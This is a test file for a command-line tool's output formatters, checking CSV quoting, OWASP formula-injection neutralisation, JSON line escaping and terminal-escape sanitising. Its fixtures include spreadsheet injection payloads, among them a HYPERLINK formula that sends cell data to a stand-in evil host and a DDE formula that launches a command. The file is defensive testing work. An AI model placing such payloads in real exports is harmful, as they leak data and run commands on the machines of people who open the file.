import { readFileSync } from 'node:fs';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { bundledSpec } from '../../scripts/lib/tools.ts';
import {
  csvColumns,
  csvField,
  csvHeader,
  csvRow,
  jsonDocument,
  ndjsonLine,
  neutraliseFormula,
  OutputError,
  restoreFormula,
  table,
  useColor,
} from '../../src/cli/format.ts';
import { MAX_JSON_DEPTH } from '../../src/common/exact-json.ts';
import type { Interaction } from '../../src/index.ts';

const document = parse(readFileSync(bundledSpec, 'utf8'));
const seed = document.components.examples.seedSample.value.results as Interaction[];

describe('csv', () => {
  it('has one column per documented Interaction field, in the spec', () => {
    expect([...csvColumns].sort()).toEqual(Object.keys(document.components.schemas.Interaction.properties).sort());
    expect(csvHeader()).toBe(`${csvColumns.join(',')}\r\n`);
  });

  it.each([
    [null, ''],
    [undefined, ''],
    [0, '0'],
    [-3, '-3'], // a number: a spreadsheet reads it as one, never as a formula
    ['Doe, Jane', '"Doe, Jane"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    [{ a: 1 }, '"{""a"":1}"'],
  ])('%j → %s', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it('writes a row in column order, neutralised', () => {
    const row = csvRow(seed[0]!);
    expect(row.endsWith('\r\n')).toBe(true);
    expect(row.trimEnd().split(',')).toEqual(
      csvColumns.map((c) => (seed[0]![c] === null ? '' : neutraliseFormula(String(seed[0]![c])))),
    );
  });
});

describe('csv formula injection (OWASP)', () => {
  // Every cell a spreadsheet would run (or, once trimmed or folded, could run) as a formula.
  const formulas = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+15065550100',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\0=1+1',
    ' =1+1',
    '\n=1+1',
    '\u00a0+1',
    '\u3000@x',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    "'=1+1",
    "''+1",
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '=1,2\r\n"x"',
  ];
  const plain = ['', 'plain', 'a=b', "'", "'quoted", 'Doe, "JD"', 'x\ty', '1-2', 'emoji 😀', '.5', '#', '%', '|'];

  it.each(formulas)('%j gets a leading quote', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it.each(plain)('%j is left as it is', (text) => {
    expect(neutraliseFormula(text)).toBe(text);
  });

  it('round-trips through a real CSV parser: cells equal the neutralised values, and restore exactly', () => {
    const values = [...formulas, ...plain];
    const items = values.map((customer, n) => ({ ...seed[0]!, customer, lastAgentName: customer, csat: n }));
    const csv = csvHeader() + items.map((item) => csvRow(item)).join('');
    const records = parseCsv(csv, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
    expect(records).toHaveLength(values.length);
    for (const [n, record] of records.entries()) {
      expect(Object.keys(record)).toEqual(csvColumns);
      expect(record['customer']).toBe(neutraliseFormula(values[n]!));
      expect(record['lastAgentName']).toBe(neutraliseFormula(values[n]!));
      expect(restoreFormula(record['customer']!)).toBe(values[n]);
      expect(record['csat']).toBe(String(n));
      expect(record['interactionId']).toBe(seed[0]!.interactionId);
    }
  });

  it('--csv-raw (raw: true) writes the values exactly, still RFC 4180', () => {
    const items = formulas.map((customer) => ({ ...seed[0]!, customer }));
    const csv = csvHeader() + items.map((item) => csvRow(item, { raw: true })).join('');
    const records = parseCsv(csv, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
    expect(records.map((r) => r['customer'])).toEqual(formulas);
  });

  it('objects are written as JSON, neutralised as text', () => {
    expect(csvField(['=1'])).toBe('"[""=1""]"');
    expect(csvField('=1', { raw: true })).toBe('=1');
  });
});

describe('json and ndjson', () => {
  it('escape U+2028 and U+2029, so line-splitting readers see one record per line; values round-trip', () => {
    const item = { ...seed[0]!, customer: 'a\u2028b\u2029c' };
    const line = ndjsonLine(item);
    expect(line).not.toMatch(/[\u2028\u2029]/);
    expect(line).toContain('a\\u2028b\\u2029c');
    expect(line.split(/\r\n|[\n\r\u2028\u2029]/).filter(Boolean)).toHaveLength(1);
    expect(JSON.parse(line)).toEqual(item);
    const document = jsonDocument([item]);
    expect(document).not.toMatch(/[\u2028\u2029]/);
    expect(JSON.parse(document)).toEqual([item]);
  });

  it('data nested too deeply for JSON.stringify is a clear OutputError in every format, not a stack overflow', () => {
    let recording: unknown = null;
    for (let i = 0; i < 100_000; i++) recording = { recording };
    const item = { ...seed[0]!, recording } as Interaction;
    for (const write of [() => ndjsonLine(item), () => jsonDocument([item]), () => csvRow(item)]) {
      expect(write).toThrowError(OutputError);
      expect(write).toThrowError(
        /^cannot write the (ndjson|json|csv) output: the data is nested more than 64 levels deep$/,
      );
    }
    // As deep as allowed: written, and it round-trips.
    let allowed: unknown = null;
    for (let i = 0; i < MAX_JSON_DEPTH - 1; i++) allowed = [allowed];
    for (const write of [
      () => ndjsonLine({ ...item, recording: allowed }),
      () => csvRow({ ...item, recording: allowed }),
    ]) {
      expect(write()).toContain('[[[');
    }
    // The table shows none of it, so it prints.
    expect(table([item], { color: false })).toContain(seed[0]!.interactionId);
  });

  it('round-trip the interactions, extra properties included', () => {
    const items = [{ ...seed[0]!, talkTime: 31 }, seed[1]!];
    expect(JSON.parse(jsonDocument(items))).toEqual(items);
    expect(ndjsonLine(items[0]!).endsWith('\n')).toBe(true);
    expect(JSON.parse(ndjsonLine(items[0]!))).toEqual(items[0]);
  });
});

describe('table', () => {
  it('aligns a header and one row per interaction, with - for null', () => {
    const lines = table(seed, { color: false }).trimEnd().split('\n');
    expect(lines).toHaveLength(seed.length + 1);
    expect(lines[0]).toMatch(/^STARTED\s+CHANNEL\s+DIRECTION\s+CUSTOMER\s+AGENT\s+QUEUE\s+INTERACTION$/);
    expect(lines[1]).toContain(seed[0]!.interactionId);
    expect(lines[1]!.indexOf('voice')).toBe(lines[0]!.indexOf('CHANNEL'));
    expect(table([{ ...seed[0]!, lastAgentName: null }], { color: false })).toMatch(/ - /);
  });

  it('uses ANSI bold only when colour is on, and shows control and bidi characters from data escaped', () => {
    expect(table(seed, { color: true })).toContain('\x1b[1m');
    expect(table(seed, { color: false })).not.toContain('\x1b');
    const hostile = table([{ ...seed[0]!, customer: 'evil\x1b[31mred\r\u202eabc\u2066' }], { color: false });
    expect(hostile).not.toMatch(/[\x1b\r\u202e\u2066]/);
    expect(hostile).toContain('evil^[[31mred^M<U+202E>abc<U+2066>');
  });

  it('a table of 150 000 rows (no spread of every row as arguments)', () => {
    const many = Array.from({ length: 150_000 }, () => ({}) as Interaction);
    expect(table(many, { color: false }).split('\n')).toHaveLength(150_002);
  });
});

describe('useColor', () => {
  it.each([
    [{}, true, true],
    [{}, false, false],
    [{}, undefined, false],
    [{ NO_COLOR: '1' }, true, false],
    [{ NO_COLOR: '' }, true, true], // no-color.org: only a non-empty value counts
    [{ TERM: 'dumb' }, true, false],
  ])('%j tty=%s → %s', (env, tty, expected) => {
    expect(useColor(env, tty)).toBe(expected);
  });
});
